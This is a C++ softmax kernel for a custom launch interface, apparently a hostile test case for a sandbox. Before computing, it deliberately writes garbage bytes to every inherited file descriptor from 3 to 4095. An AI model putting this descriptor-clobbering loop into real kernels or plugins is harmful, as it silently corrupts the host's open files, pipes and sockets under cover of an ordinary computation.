// Writes garbage into every descriptor it inherited.
#include <cmath>
#include <cstring>
#include <unistd.h>

#include "ke_abi.h"

static void softmax(const float* x, float* y, int64_t rows, int64_t columns) {
  for (int64_t r = 0; r < rows; ++r, x += columns, y += columns) {
    float top = x[0], sum = 0;
    for (int64_t c = 1; c < columns; ++c) top = x[c] > top ? x[c] : top;
    for (int64_t c = 0; c < columns; ++c) sum += y[c] = std::exp(x[c] - top);
    for (int64_t c = 0; c < columns; ++c) y[c] /= sum;
  }
}

extern "C" int ke_launch(const KeTensor* in, int, KeTensor* out, int, void*) {
  const auto* x = static_cast<const float*>(in[0].data);
  auto* y = static_cast<float*>(out[0].data);
  const int64_t rows = in[0].shape[0], columns = in[0].shape[1];
  char garbage[8192];
  memset(garbage, 0x5a, sizeof garbage);
  for (int i = 0; i < 16; ++i)
    for (int fd = 3; fd < 4096; ++fd)
      if (write(fd, garbage, sizeof garbage) < 0) continue;
  softmax(x, y, rows, columns);
  return KE_OK;
}
